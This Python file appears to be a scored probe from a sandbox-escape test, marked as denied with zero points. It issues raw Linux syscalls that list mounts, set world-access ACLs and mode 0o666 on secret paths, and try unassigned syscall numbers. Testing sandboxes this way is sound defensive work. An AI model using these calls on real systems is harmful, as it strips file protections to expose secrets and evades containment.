"""System calls that libraries have no name for yet: attributes of files at a path, lists of mounts."""

# outcome: denied
# points: 0

import ctypes
import struct

from first_step import those_that_got_in


def attack(world):
    everyone = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 6, 0xFFFFFFFF) for tag in (1, 4, 0x20))
    held = ctypes.create_string_buffer(everyone, len(everyone))
    value = struct.pack("<QII", ctypes.addressof(held), len(everyone), 0)
    all_mounts = struct.pack("<IIQQQ", 32, 0, (1 << 64) - 1, 0, 0)
    root = struct.pack("<IIQQQ", 32, 0, 1, 1, 0)
    buffer = ctypes.create_string_buffer(800)
    calls = {
        "listmount": (458, all_mounts, buffer, 100, 0),
        "statmount": (457, root, buffer, 800, 0),
        "open_tree_attr": (467, -100, b".", 0, None, 0),
    }
    for path in (*world["secrets"], "mine"):
        name = path.encode()
        calls[f"setxattrat {path}"] = (463, -100, name, 0, b"system.posix_acl_access", value, 16)
        calls[f"removexattrat {path}"] = (466, -100, name, 0, b"user.x")
        calls[f"file_setattr {path}"] = (469, -100, name, bytes(24), 24, 0)
        calls[f"fchmodat2 {path}"] = (452, -100, name, 0o666, 0)
    for number in (470, 471, 500, 1000, 1023):  # nobody has given these out
        calls[f"call {number}"] = (number, 0, 0, 0, 0, 0, 0)
    return those_that_got_in(calls)
